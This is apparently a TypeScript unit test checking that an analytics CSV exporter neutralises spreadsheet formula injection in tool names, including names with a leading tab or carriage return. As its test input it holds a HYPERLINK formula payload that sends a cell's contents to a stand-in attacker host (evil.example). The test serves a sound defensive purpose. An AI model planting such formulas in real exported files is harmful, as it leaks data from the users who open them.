import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { analyticsCsv } from '../../src/operators/analytics.js';

const row = (key: string) => ({ key, calls: 1, paidCalls: 1, revenue: 10n, operatorShare: 9n });
const report = (tool: string) =>
  analyticsCsv({
    byDay: [],
    byTool: [row(tool)],
    byRail: [],
    byCaller: [],
    denials: [],
    settlement: { count: 0 },
    losses: { count: 0, amount: 0n },
  });

describe('the analytics CSV an admin or operator opens in a spreadsheet', () => {
  test('a tool name an upstream chose that starts with a tab or carriage return before a formula is defused as text, as one starting with = is', () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
    for (const lead of ['', '\t', '\r']) {
      const line = report(`${lead}${formula}`)
        .split('\r\n')
        .find((l) => l.startsWith('tool,'));
      const cell = line?.slice('tool,'.length).replace(/^"/, '');
      assert.ok(cell?.startsWith("'"), `${JSON.stringify(lead)}: ${JSON.stringify(line)} is not defused`);
    }
  });
});
